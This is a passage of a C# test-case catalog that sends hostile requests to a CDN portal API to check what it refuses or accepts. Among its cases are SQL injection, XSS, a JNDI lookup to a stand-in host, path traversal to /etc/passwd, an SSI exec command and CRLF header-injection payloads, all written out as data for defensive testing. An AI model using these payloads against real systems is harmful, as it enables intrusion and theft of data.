using System.Text;
using System.Text.Json.Nodes;

namespace Poppy.Portal.Web.Tests.Api;

/// <summary>What a hostile request must get: refused (4xx with a message, nothing stored), accepted (2xx), or either.</summary>
public enum HostileExpect { Refused, Accepted, Either }

/// <summary>
/// One hostile request. <see cref="Path"/> is sent as an HTTP client sends it, with <c>{id}</c> standing for a deployed
/// service of project alpha and <c>{other}</c> for a service of project beta. (A client removes a bare <c>..</c> or
/// <c>%2e%2e</c> segment before sending, as Kestrel would on arrival; the traversals here are the ones that arrive.)
/// </summary>
/// <param name="Field">When refused with field errors, a field the errors must name.</param>
/// <param name="ProjectHeader">The X-Project-ID to send; null sends none.</param>
public sealed record HostileCase(
    string Name, HttpMethod Method, string Path, byte[]? Body = null, HostileExpect Expect = HostileExpect.Refused,
    string? Field = null, string? ProjectHeader = PortalFactory.FirstProject, int? Status = null)
{
    public bool NeedsDeployedService => Path.Contains("{id}", StringComparison.Ordinal) && Method != HttpMethod.Get;
}

/// <summary>
/// The catalog of <see cref="HostileInputTests"/>: malformed JSON and UTF-8, wrong types, huge and deep bodies, control
/// characters, injection strings, traversal in ids and purge paths, abusive paging, patch bombs, hostile headers.
/// </summary>
public static class HostileInputCases
{
    private static readonly Lazy<IReadOnlyDictionary<string, HostileCase>> Catalog = new(() => Build().ToDictionary(c => c.Name));

    public static IReadOnlyDictionary<string, HostileCase> All => Catalog.Value;

    private static byte[] U(string text) => Encoding.UTF8.GetBytes(text);

    private static int domainCounter;

    /// <summary>A valid service document with a domain no other case uses; <paramref name="change"/> makes it hostile.</summary>
    private static JsonObject Service(Action<JsonObject>? change = null)
    {
        var n = Interlocked.Increment(ref domainCounter);
        var document = new JsonObject
        {
            ["name"] = "hostile",
            ["flavor_id"] = ApiFixture.Flavor,
            ["domains"] = new JsonArray(new JsonObject { ["domain"] = $"www.h{n}.hostile.example", ["protocol"] = "http" }),
            ["origins"] = new JsonArray(new JsonObject
            {
                ["origin"] = "origin.hostile.example", ["port"] = 80, ["ssl"] = false, ["hostheadertype"] = "custom", ["hostheadervalue"] = $"host{n}.hostile.example",
                ["rules"] = new JsonArray(new JsonObject { ["name"] = "all", ["request_url"] = "/*" }),
            }),
            ["caching"] = new JsonArray(
                new JsonObject { ["name"] = "default", ["ttl"] = 60 },
                new JsonObject { ["name"] = "images", ["ttl"] = 600, ["rules"] = new JsonArray(new JsonObject { ["name"] = "img", ["request_url"] = "/images/*" }) }),
            ["restrictions"] = new JsonArray(new JsonObject
            {
                ["name"] = "partners",
                ["rules"] = new JsonArray(new JsonObject { ["name"] = "ref", ["referrer"] = "www.partner.example" }),
            }),
            ["delivery"] = new JsonObject { ["default_root_object"] = "index.html" },
        };
        change?.Invoke(document);
        return document;
    }

    /// <summary>Sets the value at a dotted path such as <c>origins[0].rules[0].name</c>.</summary>
    private static void Set(JsonObject document, string path, JsonNode? value)
    {
        JsonNode current = document;
        var parts = path.Split('.');
        for (var i = 0; i < parts.Length; i++)
        {
            var part = parts[i];
            var bracket = part.IndexOf('[');
            var key = bracket < 0 ? part : part[..bracket];
            var last = i == parts.Length - 1;
            if (bracket < 0)
            {
                if (last)
                {
                    current.AsObject()[key] = value;
                    return;
                }
                current = current[key]!;
                continue;
            }
            var index = int.Parse(part[(bracket + 1)..^1], System.Globalization.CultureInfo.InvariantCulture);
            if (last)
            {
                current[key]![index] = value;
                return;
            }
            current = current[key]![index]!;
        }
    }

    private static byte[] ServiceWith(string path, JsonNode? value) => U(Service(d => Set(d, path, value)).ToJsonString());

    private static IEnumerable<HostileCase> Build()
    {
        var post = HttpMethod.Post;
        var services = "/v1.0/services";

        // ---- Malformed JSON ------------------------------------------------------------------------------------------
        string[] malformed =
        [
            "", " ", "{", "}", "[", "]", "{\"name\":}", "{'name':'x'}", "{\"name\":\"x\",}", "[1,]", "NaN", "Infinity", "-Infinity",
            "undefined", "{\"a\":1}{\"b\":2}", "{} []", "{\"name\":\"\\x41\"}", "{\"name\":\"\\u12\"}", "{\"name\":\"unterminated}",
            "/* comment */ {}", "{\"a\":1 // comment\n}", "{\"name\":01}", "{\"name\":1e}", "{\"name\":-}", "{\"name\":+1}", "0x10",
            "\"\\", "{\"name\":\"a\tb\"}", "{\"name\":\"a\nb\"}", "\0", "{\"n\0\":1}", "{\"name\":\"x\"", "{{}}", "{\"name\" \"x\"}",
        ];
        for (var i = 0; i < malformed.Length; i++)
        {
            yield return new($"malformed json {i:00}: {Printable(malformed[i])}", post, services, U(malformed[i]));
        }
        foreach (var notObject in new[] { "null", "true", "0", "-1", "1e308", "\"a string\"", "[]", "[{}]", "{}", "\"\"" })
        {
            yield return new($"not a service object: {notObject}", post, services, U(notObject));
        }

        // ---- Invalid UTF-8 and lone surrogates -------------------------------------------------------------------------
        var invalidStrings = new (string Kind, Func<string, byte[]> Make)[]
        {
            ("escaped lone high surrogate", before => U(before + "\\ud800")),
            ("escaped lone low surrogate", before => U(before + "x\\udc00")),
            ("escaped reversed pair", before => U(before + "\\udc00\\ud800")),
            ("escaped high surrogate then letter", before => U(before + "\\udbffA")),
            ("byte FF", before => [.. U(before), 0xFF]),
            ("overlong slash C0 AF", before => [.. U(before), 0xC0, 0xAF]),
            ("encoded surrogate ED A0 80", before => [.. U(before), 0xED, 0xA0, 0x80]),
            ("truncated sequence E2 82", before => [.. U(before), 0xE2, 0x82]),
            ("lone continuation 80", before => [.. U(before), 0x80]),
            ("five-byte form F8", before => [.. U(before), 0xF8, 0x88, 0x80, 0x80, 0x80]),
        };
        foreach (var (kind, make) in invalidStrings)
        {
            foreach (var field in new[] { "name", "domain" })
            {
                var json = Service().ToJsonString();
                var marker = field == "name" ? "\"name\":\"hostile" : "\"domain\":\"www.h";
                var at = json.IndexOf(marker, StringComparison.Ordinal) + marker.Length;
                yield return new($"invalid unicode in {field}: {kind}", post, services, [.. make(json[..at]), .. U(json[at..])]);
            }
        }
        yield return new("escaped lone surrogate as a member name", post, services, U(Service().ToJsonString().Replace("{\"name\"", "{\"\\ud800\":1,\"name\"", StringComparison.Ordinal)));
        yield return new("invalid UTF-8 in a member name", post, services, [.. U("{\"na"), 0xFF, .. U("me\":\"x\"}")]);

        // ---- Duplicate members ---------------------------------------------------------------------------------------
        yield return new("duplicate name member", post, services, U(Service().ToJsonString().Replace("{\"name\":\"hostile\"", "{\"name\":\"first\",\"name\":\"hostile\"", StringComparison.Ordinal)));
        yield return new("duplicate member in a domain", post, services, U(Service().ToJsonString().Replace("\"protocol\":\"http\"", "\"protocol\":\"http\",\"protocol\":\"https\"", StringComparison.Ordinal)));
        yield return new("duplicate member spelled with an escape", post, services, U(Service().ToJsonString().Replace("{\"name\":\"hostile\"", "{\"\\u006eame\":\"x\",\"name\":\"hostile\"", StringComparison.Ordinal)));

        // ---- Wrong types ---------------------------------------------------------------------------------------------
        var wrongTypes = new (string Path, string Value, string Field)[]
        {
            ("name", "1", "name"), ("name", "true", "name"), ("name", "null", "name"), ("name", "[]", "name"), ("name", "{}", "name"), ("name", "1.5", "name"),
            ("flavor_id", "1", "flavor_id"), ("flavor_id", "null", "flavor_id"), ("flavor_id", "[\"cdn\"]", "flavor_id"),
            ("domains", "\"www.x.example\"", "domains"), ("domains", "{}", "domains"), ("domains", "1", "domains"), ("domains", "null", "domains"),
            ("domains", "[1]", "domains[0]"), ("domains", "[\"www.x.example\"]", "domains[0]"), ("domains", "[null]", "domains[0]"), ("domains", "[[]]", "domains[0]"),
            ("domains[0].domain", "1", "domains[0].domain"), ("domains[0].domain", "null", "domains[0].domain"), ("domains[0].domain", "{}", "domains[0].domain"),
            ("domains[0].protocol", "1", "domains[0].protocol"), ("domains[0].protocol", "\"HTTP\"", "domains[0].protocol"), ("domains[0].protocol", "\"http \"", "domains[0].protocol"),
            ("domains[0].certificate", "1", "domains[0].certificate"), ("domains[0].certificate", "\"SAN\"", "domains[0].certificate"),
            ("origins", "{}", "origins"), ("origins", "\"origin.x.example\"", "origins"), ("origins", "null", "origins"),
            ("origins[0].origin", "1", "origins[0].origin"), ("origins[0].port", "\"80\"", "origins[0].port"), ("origins[0].port", "80.5", "origins[0].port"),
            ("origins[0].port", "1e10", "origins[0].port"), ("origins[0].port", "-1", "origins[0].port"), ("origins[0].port", "65536", "origins[0].port"),
            ("origins[0].port", "2147483648", "origins[0].port"), ("origins[0].port", "true", "origins[0].port"), ("origins[0].ssl", "\"true\"", "origins[0].ssl"),
            ("origins[0].ssl", "1", "origins[0].ssl"), ("origins[0].ssl", "null", "origins[0].ssl"), ("origins[0].rules", "{}", "origins[0].rules"),
            ("origins[0].rules", "\"/*\"", "origins[0].rules"), ("origins[0].hostheadertype", "1", "origins[0].hostheadertype"),
            ("caching", "{}", "caching"), ("caching", "[1]", "caching[0]"), ("caching[0].ttl", "\"60\"", "caching[0].ttl"), ("caching[0].ttl", "1.5", "caching[0].ttl"),
            ("caching[0].ttl", "1e100", "caching[0].ttl"), ("caching[0].ttl", "-1", "caching[0].ttl"), ("restrictions", "\"x\"", "restrictions"),
            ("restrictions", "[1]", "restrictions[0]"), ("log_delivery", "true", "log_delivery"), ("log_delivery", "{\"enabled\":\"x\"}", "log_delivery.enabled"),
            ("log_delivery", "{\"enabled\":null}", "log_delivery.enabled"), ("delivery", "[]", "delivery"), ("delivery", "{\"min_ttl\":\"1\"}", "delivery.min_ttl"),
            ("delivery", "{\"min_ttl\":1e30}", "delivery.min_ttl"),
        };
        foreach (var (path, value, field) in wrongTypes)
        {
            yield return new($"wrong type: {path} = {value}", post, services, ServiceWith(path, JsonNode.Parse(value)), Field: field);
        }

        // ---- Huge bodies ---------------------------------------------------------------------------------------------
        yield return new("huge: a 300 KB name", post, services, ServiceWith("name", new string('n', 300 * 1024)), Status: 413);
        yield return new("huge: a valid document padded past 256 KB", post, services, U(new string(' ', 257 * 1024) + Service().ToJsonString()), Status: 413);
        yield return new("huge: a valid document padded to 200 KB", post, services, U(new string(' ', 200 * 1024) + Service().ToJsonString()), HostileExpect.Accepted);
        yield return new("huge: a 100 KB name", post, services, ServiceWith("name", new string('n', 100 * 1024)), Field: "name");
        yield return new("huge: 5,000 domains", post, services,
            U(Service(d => d["domains"] = new JsonArray(Enumerable.Range(0, 5000).Select(i => (JsonNode)new JsonObject { ["domain"] = $"w{i}.many.example" }).ToArray())).ToJsonString()), Field: "domains");
        yield return new("huge: 2,000 origins", post, services,
            U(Service(d => d["origins"] = new JsonArray(Enumerable.Range(0, 2000).Select(i => (JsonNode)new JsonObject { ["origin"] = $"o{i}.many.example" }).ToArray())).ToJsonString()), Field: "origins");
        yield return new("huge: 1,500 caching rules (valid)", post, services,
            U(Service(d => d["caching"] = new JsonArray(Enumerable.Range(0, 1500).Select(i => (JsonNode)new JsonObject
            {
                ["name"] = $"c{i}", ["ttl"] = i, ["rules"] = new JsonArray(new JsonObject { ["name"] = "r", ["request_url"] = $"/p{i}/*" }),
            }).ToArray())).ToJsonString()), HostileExpect.Accepted);
        yield return new("huge: 40,000 numbers in an unknown field", post, services, ServiceWith("junk", new JsonArray(Enumerable.Range(0, 40_000).Select(i => (JsonNode)i).ToArray())), Field: "junk");
        yield return new("huge: a 250 KB string in an unknown field", post, services, ServiceWith("junk", new string('j', 250 * 1000)), Field: "junk");

        // ---- Deep bodies ---------------------------------------------------------------------------------------------
        yield return new("deep: 17 nested arrays", post, services, U(new string('[', 17) + new string(']', 17)));
        yield return new("deep: 16 nested arrays", post, services, U(new string('[', 16) + new string(']', 16)));
        yield return new("deep: 100,000 open brackets", post, services, U(new string('[', 100_000)));
        yield return new("deep: 20 nested objects as the name", post, services,
            U(Service().ToJsonString().Replace("\"name\":\"hostile\"", "\"name\":" + string.Concat(Enumerable.Repeat("{\"a\":", 20)) + "1" + new string('}', 20), StringComparison.Ordinal)));
        yield return new("deep: 12 nested arrays as the domains", post, services, ServiceWith("domains", JsonNode.Parse(new string('[', 12) + new string(']', 12))), Field: "domains[0]");
        yield return new("deep: 1,000 unterminated objects", post, services, U(string.Concat(Enumerable.Repeat("{\"a\":", 1000))));
        yield return new("deep: 14 nested objects in delivery", post, services,
            ServiceWith("delivery", JsonNode.Parse(string.Concat(Enumerable.Repeat("{\"min_ttl\":", 14)) + "1" + new string('}', 14))), Field: "delivery.min_ttl");

        // ---- Control characters in every text field ------------------------------------------------------------------
        var textFields = new (string Path, string Valid)[]
        {
            ("name", "hostile"), ("flavor_id", "cdn"), ("domains[0].domain", "www.ctl.hostile.example"), ("origins[0].origin", "origin.hostile.example"),
            ("origins[0].hostheadervalue", "host.hostile.example"), ("origins[0].rules[0].name", "all"), ("origins[0].rules[0].request_url", "/*"),
            ("caching[0].name", "default"), ("caching[1].rules[0].name", "img"), ("restrictions[0].name", "partners"),
            ("restrictions[0].rules[0].name", "ref"), ("restrictions[0].rules[0].referrer", "www.partner.example"), ("delivery.default_root_object", "index.html"),
        };
        foreach (var (path, valid) in textFields)
        {
            foreach (var (label, control) in new[] { ("NUL", "\0"), ("TAB", "\t"), ("LF", "\n"), ("DEL", "\x7f"), ("C1 CSI", "\u009b"), ("LINE SEPARATOR", "\u2028") })
            {
                yield return new($"control {label} in {path}", post, services, ServiceWith(path, valid[..1] + control + valid[1..]), Field: path);
            }
        }
        foreach (var (path, valid) in textFields.Where(f => f.Path is not ("name" or "flavor_id")))
        {
            yield return new($"trailing newline in {path}", post, services, ServiceWith(path, valid + "\n"), Field: path);
        }

        // ---- Injection strings ---------------------------------------------------------------------------------------
        string[] injections =
        [
            "'; DROP TABLE \"Services\";--", "\" OR 1=1 --", "1' UNION SELECT \"PasswordHash\" FROM \"AspNetUsers\"--", "Robert'); DROP TABLE Students;--",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example/x}",
            "../../etc/passwd", "%s%s%s%n", "\u202eevil", "zero\u200bwidth", "\U0001F600\U0001F600\U0001F600", "<!--#exec cmd=\"ls\"-->",
        ];
        for (var i = 0; i < injections.Length; i++)
        {
            yield return new($"injection {i:00} as a service name (plain text, stored as given)", post, services, ServiceWith("name", injections[i]), HostileExpect.Accepted);
        }
        string[] hostInjections = ["www.x.example'; DROP TABLE x;--", "<script>.x.example", "www.x.example/../y", "www.x.example:80", "*.x.example", "www.x.example%00", "http://www.x.example", "www.x.example\r\nSet-Cookie: a=b"];
        for (var i = 0; i < hostInjections.Length; i++)
        {
            yield return new($"injection {i:00} as a domain", post, services, ServiceWith("domains[0].domain", hostInjections[i]), Field: "domains[0].domain");
            yield return new($"injection {i:00} as an origin", post, services, ServiceWith("origins[0].origin", hostInjections[i]), Field: "origins[0].origin");
            yield return new($"injection {i:00} as a referrer", post, services, ServiceWith("restrictions[0].rules[0].referrer", hostInjections[i]), Field: "restrictions[0].rules[0].referrer");
        }
        foreach (var url in new[] { "/a'or'1'='1", "/<script>", "/a b", "/a\"b", "/{x}", "http://evil.example/*" })
        {
            yield return new($"injection as a request_url: {url}", post, services, ServiceWith("origins[0].rules[0].request_url", url), Field: "origins[0].rules[0].request_url");
        }

        // ---- Flavors ---------------------------------------------------------------------------------------------------
        const string validProviders = "[{\"provider\":\"sim-fastly\",\"links\":[{\"href\":\"www.fastly.com\",\"rel\":\"provider_url\"}]}]";
        var flavorBodies = new (string Name, string Body, HostileExpect Expect)[]
        {
            ("unknown key", $"{{\"id\":\"fl-unknown\",\"providers\":{validProviders},\"colour\":1}}", HostileExpect.Refused),
            ("upper-case id key", $"{{\"ID\":\"fl-upper\",\"providers\":{validProviders}}}", HostileExpect.Refused),
            ("upper-case providers key", $"{{\"id\":\"fl-upper2\",\"PROVIDERS\":{validProviders}}}", HostileExpect.Refused),
            ("upper-case link key", "{\"id\":\"fl-upper3\",\"providers\":[{\"provider\":\"sim-fastly\",\"links\":[{\"Href\":\"www.fastly.com\",\"rel\":\"provider_url\"}]}]}", HostileExpect.Refused),
            ("id as number", $"{{\"id\":123,\"providers\":{validProviders}}}", HostileExpect.Refused),
            ("providers as object", "{\"id\":\"fl-obj\",\"providers\":{}}", HostileExpect.Refused),
            ("provider as array", "{\"id\":\"fl-arr\",\"providers\":[[]]}", HostileExpect.Refused),
            ("links as string", "{\"id\":\"fl-links\",\"providers\":[{\"provider\":\"sim-fastly\",\"links\":\"www.fastly.com\"}]}", HostileExpect.Refused),
            ("id with a slash", $"{{\"id\":\"../admin\",\"providers\":{validProviders}}}", HostileExpect.Refused),
            ("id with NUL", $"{{\"id\":\"fl\\u0000nul\",\"providers\":{validProviders}}}", HostileExpect.Refused),
            ("id with line separator", $"{{\"id\":\"fl\\u2028ls\",\"providers\":{validProviders}}}", HostileExpect.Refused),
            ("provider with CRLF", "{\"id\":\"fl-crlf\",\"providers\":[{\"provider\":\"sim-fastly\\r\\n\",\"links\":[{\"href\":\"www.fastly.com\",\"rel\":\"provider_url\"}]}]}", HostileExpect.Refused),
            ("href with CRLF", "{\"id\":\"fl-href\",\"providers\":[{\"provider\":\"sim-fastly\",\"links\":[{\"href\":\"www.fastly.com\\r\\nX: 1\",\"rel\":\"provider_url\"}]}]}", HostileExpect.Refused),
            ("lone surrogate id", $"{{\"id\":\"fl\\ud800\",\"providers\":{validProviders}}}", HostileExpect.Refused),
            ("duplicate id", $"{{\"id\":\"fl-dup1\",\"id\":\"fl-dup2\",\"providers\":{validProviders}}}", HostileExpect.Refused),
            ("deep providers", "{\"id\":\"fl-deep\",\"providers\":" + new string('[', 15) + new string(']', 15) + "}", HostileExpect.Refused),
            ("500 providers", "{\"id\":\"fl-many\",\"providers\":[" + string.Join(",", Enumerable.Repeat("{\"provider\":\"sim-fastly\",\"links\":[{\"href\":\"www.fastly.com\",\"rel\":\"provider_url\"}]}", 500)) + "]}", HostileExpect.Refused),
            ("sql injection id (plain text, stored as given)", $"{{\"id\":\"'; DROP TABLE Flavors;--\",\"providers\":{validProviders}}}", HostileExpect.Accepted),
            ("script id (plain text, stored as given)", $"{{\"id\":\"<img src=x onerror=alert(1)>\",\"providers\":{validProviders}}}", HostileExpect.Accepted),
            ("not json", "{\"id\":", HostileExpect.Refused),
        };
        foreach (var (name, body, expect) in flavorBodies)
        {
            yield return new($"flavor: {name}", post, "/v1.0/flavors", U(body), expect);
        }
        yield return new("flavor: invalid UTF-8 in the id", post, "/v1.0/flavors", [.. U("{\"id\":\"fl"), 0xFF, .. U($"x\",\"providers\":{validProviders}}}")]);

        // ---- PATCH -----------------------------------------------------------------------------------------------------
        var patch = HttpMethod.Patch;
        var service = "/v1.0/services/{id}";
        string Ops(int count, string op) => "[" + string.Join(",", Enumerable.Repeat(op, count)) + "]";
        var patches = new (string Name, byte[] Body, HostileExpect Expect)[]
        {
            ("bomb: 20 self-copies of caching", U(Ops(20, "{\"op\":\"copy\",\"from\":\"/caching\",\"path\":\"/caching/-\"}")), HostileExpect.Refused),
            ("bomb: 200 copies of a caching rule", U(Ops(200, "{\"op\":\"copy\",\"from\":\"/caching/0\",\"path\":\"/caching/-\"}")), HostileExpect.Refused),
            ("bomb: 201 operations", U(Ops(201, "{\"op\":\"test\",\"path\":\"/flavor_id\",\"value\":\"cdn\"}")), HostileExpect.Refused),
            ("bomb: nesting past 64 by adds", U("[" + string.Join(",", Enumerable.Range(0, 6).Select(i =>
                $"{{\"op\":\"add\",\"path\":\"/caching/0/x{string.Concat(Enumerable.Repeat("/a", 12 * i))}\",\"value\":{string.Concat(Enumerable.Repeat("{\"a\":", 12))}1{new string('}', 12)}}}")) + "]"), HostileExpect.Refused),
            ("bomb: copies into a deeper place each time", U(Ops(40, "{\"op\":\"copy\",\"from\":\"/caching\",\"path\":\"/caching/0/rules\"}")), HostileExpect.Refused),
            ("bomb: a 100 KB value copied ten times", U("[{\"op\":\"add\",\"path\":\"/caching/0/big\",\"value\":\"" + new string('b', 100_000) + "\"}," +
                string.Join(",", Enumerable.Range(0, 10).Select(i => $"{{\"op\":\"copy\",\"from\":\"/caching/0/big\",\"path\":\"/caching/0/c{i}\"}}")) + "]"), HostileExpect.Refused),
            ("bomb: eleven domains", U("[" + string.Join(",", Enumerable.Range(0, 11).Select(i => $"{{\"op\":\"add\",\"path\":\"/domains/-\",\"value\":{{\"domain\":\"p{i}.bomb.example\"}}}}")) + "]"), HostileExpect.Refused),
            ("not an array", U("{\"op\":\"replace\",\"path\":\"/name\",\"value\":\"x\"}"), HostileExpect.Refused),
            ("array of numbers", U("[1]"), HostileExpect.Refused),
            ("array of arrays", U("[[]]"), HostileExpect.Refused),
            ("op as number", U("[{\"op\":1,\"path\":\"/name\",\"value\":\"x\"}]"), HostileExpect.Refused),
            ("add without value", U("[{\"op\":\"add\",\"path\":\"/name\"}]"), HostileExpect.Refused),
            ("path as number", U("[{\"op\":\"add\",\"path\":1,\"value\":\"x\"}]"), HostileExpect.Refused),
            ("malformed json", U("[{\"op\":"), HostileExpect.Refused),
            ("lone surrogate in a value", U("[{\"op\":\"replace\",\"path\":\"/name\",\"value\":\"a\\ud800b\"}]"), HostileExpect.Refused),
            ("lone surrogate in a path", U("[{\"op\":\"replace\",\"path\":\"/na\\udc00me\",\"value\":\"x\"}]"), HostileExpect.Refused),
            ("invalid UTF-8 in a value", [.. U("[{\"op\":\"replace\",\"path\":\"/name\",\"value\":\"a"), 0xC0, 0xAF, .. U("b\"}]")], HostileExpect.Refused),
            ("duplicate op member", U("[{\"op\":\"test\",\"op\":\"replace\",\"path\":\"/name\",\"value\":\"x\"}]"), HostileExpect.Refused),
            ("pointer ../project_id", U("[{\"op\":\"replace\",\"path\":\"/../project_id\",\"value\":\"beta\"}]"), HostileExpect.Refused),
            ("pointer name/../project_id", U("[{\"op\":\"replace\",\"path\":\"/name/../project_id\",\"value\":\"beta\"}]"), HostileExpect.Refused),
            ("pointer %2e%2e", U("[{\"op\":\"replace\",\"path\":\"/%2e%2e/project_id\",\"value\":\"beta\"}]"), HostileExpect.Refused),
            ("pointer project_id", U("[{\"op\":\"add\",\"path\":\"/project_id\",\"value\":\"beta\"}]"), HostileExpect.Refused),
            ("pointer status", U("[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"deployed\"}]"), HostileExpect.Refused),
            ("pointer providers", U("[{\"op\":\"add\",\"path\":\"/providers\",\"value\":[]}]"), HostileExpect.Refused),
            ("pointer root", U("[{\"op\":\"replace\",\"path\":\"\",\"value\":{}}]"), HostileExpect.Refused),
            ("pointer slash", U("[{\"op\":\"replace\",\"path\":\"/\",\"value\":{}}]"), HostileExpect.Refused),
            ("pointer without slash", U("[{\"op\":\"replace\",\"path\":\"name\",\"value\":\"x\"}]"), HostileExpect.Refused),
            ("pointer negative index", U("[{\"op\":\"replace\",\"path\":\"/domains/-1/domain\",\"value\":\"www.neg.example\"}]"), HostileExpect.Refused),
            ("pointer huge index", U("[{\"op\":\"replace\",\"path\":\"/domains/99999999999/domain\",\"value\":\"www.huge.example\"}]"), HostileExpect.Refused),
            ("pointer exponent index", U("[{\"op\":\"replace\",\"path\":\"/domains/1e1/domain\",\"value\":\"www.exp.example\"}]"), HostileExpect.Refused),
            ("pointer escaped slash", U("[{\"op\":\"add\",\"path\":\"/na~1me\",\"value\":\"x\"}]"), HostileExpect.Refused),
            ("pointer bad escape", U("[{\"op\":\"add\",\"path\":\"/caching/0/~2\",\"value\":\"x\"}]"), HostileExpect.Refused),
            ("move from nowhere", U("[{\"op\":\"move\",\"from\":\"/caching/9\",\"path\":\"/caching/0\"}]"), HostileExpect.Refused),
            ("copy a string into domains", U("[{\"op\":\"copy\",\"from\":\"/name\",\"path\":\"/domains/-\"}]"), HostileExpect.Refused),
            ("control character in the name", U("[{\"op\":\"replace\",\"path\":\"/name\",\"value\":\"a\\u0000b\"}]"), HostileExpect.Refused),
            ("trailing newline in a domain", U("[{\"op\":\"replace\",\"path\":\"/domains/0/domain\",\"value\":\"www.patched.hostile.example\\n\"}]"), HostileExpect.Refused),
            ("tab in an added origin", U("[{\"op\":\"add\",\"path\":\"/origins/-\",\"value\":{\"origin\":\"o.ta\\tb.example\",\"rules\":[{\"name\":\"t\",\"request_url\":\"/t/*\"}]}}]"), HostileExpect.Refused),
            ("script as the name (plain text)", U("[{\"op\":\"replace\",\"path\":\"/name\",\"value\":\"<script>alert(1)</script>\"}]"), HostileExpect.Accepted),
            ("sql as the name (plain text)", U("[{\"op\":\"replace\",\"path\":\"/name\",\"value\":\"'; DROP TABLE \\\"Services\\\";--\"}]"), HostileExpect.Accepted),
            ("empty patch", U("[]"), HostileExpect.Accepted),
        };
        foreach (var (name, body, expect) in patches)
        {
            yield return new($"patch: {name}", patch, service, body, expect);
        }
        foreach (var id in new[] { "..%2F", "..%2F..%2Fadmin", "%2e%2e%2fadmin", "%01", "%27%20OR%20%271%27%3D%271", "%3Cscript%3E", new string('a', 3000) })
        {
            yield return new($"patch: hostile id {Printable(id)[..Math.Min(id.Length, 30)]}", patch, $"/v1.0/services/{id}", U("[]"));
        }

        // ---- Purge -----------------------------------------------------------------------------------------------------
        var delete = HttpMethod.Delete;
        string[] badPurges =
        [
            "url=/../www.victim.example/page.html", "url=/images/../../www.victim.example/page.html", "url=/%2e%2e/www.victim.example/page.html",
            "url=/%252e%252e/www.victim.example/page.html", "url=/%25252e%25252e/x", "url=/.%2e/x", "url=/images/..%252fvictim", "url=/images%5C..%5C..%5Cvictim",
            "url=/a/./b", "url=/a/..", "url=/..;/x", "url=//www.victim.example/page.html", "url=/a//b", "url=http://www.victim.example/page.html",
            "url=https:%2F%2Fwww.victim.example", "url=javascript:alert(1)", "url=JaVaScRiPt:alert(1)", "url=data:text/html,x", "url=images/logo.png",
            "url=%5Cwww.victim.example", "url=/a%00b", "url=/a%0Ab", "url=/a%0D%0AHost:%20victim", "url=/a%09b", "url=/a%7Fb", "url=/a%C2%85b",
            "url=/caf%C3%A9", "url=/a%E2%80%A8b", "url=/a%20b", "url=/a%23b", "url=", "url=" + new string('a', 1025),
            "url=/a&url=/b", "url=/a&URL=/b", "url=/a&url=/a", "url=/a&hard=true&hard=false", "all=true&all=false", "url=/a&all=true",
            "hard=maybe", "all=1", "url=/a?x=%250d%250a",
        ];
        foreach (var query in badPurges)
        {
            yield return new($"purge: {Printable(query)[..Math.Min(query.Length, 60)]}", delete, $"/v1.0/services/{{id}}/assets?{query}");
        }
        foreach (var query in new[] { "url=/images/logo.png", "url=/a/b%3Fc%3Dd", "url=/images/*", "url=%2Fa..b%2Fc", "all=true", "", "url=/*&hard=false" })
        {
            yield return new($"purge accepted: {(query.Length == 0 ? "(nothing)" : query)}", delete, $"/v1.0/services/{{id}}/assets?{query}", Expect: HostileExpect.Accepted);
        }
        foreach (var id in new[] { "..%2F{id}", "%2e%2e%2F{id}", "{id}%01", "%7F", "' OR 1=1", "..\\{id}" })
        {
            yield return new($"purge: hostile id {Printable(id)}", delete, $"/v1.0/services/{Uri.EscapeDataString(id).Replace("%7Bid%7D", "{id}", StringComparison.Ordinal)}/assets?all=true");
        }

        // ---- Ids in paths ----------------------------------------------------------------------------------------------
        var get = HttpMethod.Get;
        string[] hostileIds =
        [
            "..%2F", "..%2F..%2Fadmin%2Flimits%2Falpha", "%2e%2e%2F", "%2e%2e%2f%2e%2e", "%01", "%7F", "%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            new string('a', 4000), "00000000-0000-0000-0000-000000000000", "%7B00000000-0000-0000-0000-000000000001%7D", "{other}",
            "%0d%0aX-Injected:%201", "%E2%80%A8", "%C0%AF",
        ];
        foreach (var id in hostileIds)
        {
            yield return new($"get service: id {Printable(id)[..Math.Min(id.Length, 40)]}", get, $"/v1.0/services/{id}");
            yield return new($"delete service: id {Printable(id)[..Math.Min(id.Length, 40)]}", delete, $"/v1.0/services/{id}");
        }
        foreach (var id in new[] { "..%2F..", "%01", "%27", new string('f', 4000), "%0d%0a", "cdn%09", "..%2Fcdn", "CDN" })
        {
            yield return new($"get flavor: id {Printable(id)[..Math.Min(id.Length, 30)]}", get, $"/v1.0/flavors/{id}");
        }
        foreach (var id in new[] { "%1B", "..%2F..%2Fcdn", "nope" })
        {
            yield return new($"delete flavor: id {Printable(id)}", delete, $"/v1.0/flavors/{id}");
        }
        foreach (var path in new[] { "provider/%01", "provider/..%2F..%2Fadmin", "storage/%27", "..%2F..%2Fx/y", "provider/" + new string('p', 3000) })
        {
            yield return new($"health: {Printable(path)[..Math.Min(path.Length, 30)]}", get, $"/v1.0/health/{path}");
        }

        // ---- Paging ----------------------------------------------------------------------------------------------------
        foreach (var query in new[]
        {
            "limit=-1", "limit=0", "limit=21", "limit=999999", "limit=2147483648", "limit=-2147483649", "limit=1e3", "limit=1.5",
            "limit=0x10", "limit=abc", "limit=1&limit=2", "limit=%00", "marker=garbage", "marker=%00", "marker=%27%20OR%20%271%27%3D%271", "marker=",
            "marker=" + new string('m', 3000), "marker=..%2F..%2F",
        })
        {
            yield return new($"paging: {query[..Math.Min(query.Length, 40)]}", get, $"/v1.0/services?{query}");
        }
        // int.TryParse allows the spaces around a number; harmless, so either answer is fine.
        yield return new("paging: limit with a leading space", get, "/v1.0/services?limit=%205", Expect: HostileExpect.Either);
        yield return new("paging: limit with a trailing space", get, "/v1.0/services?limit=5%20", Expect: HostileExpect.Either);
        foreach (var query in new[] { "limit=20", "limit=1", "marker={other}", "marker=00000000-0000-0000-0000-000000000000", "limit=5&marker={id}", "" })
        {
            yield return new($"paging accepted: {(query.Length == 0 ? "(defaults)" : query)}", get, $"/v1.0/services?{query}", Expect: HostileExpect.Accepted);
        }

        // ---- Hostile project headers -------------------------------------------------------------------------------------
        foreach (var project in new[] { "alpha' OR '1'='1", "../alpha", "%00", new string('p', 8000), "gamma", "alpha,beta", "*", "ALPHA" })
        {
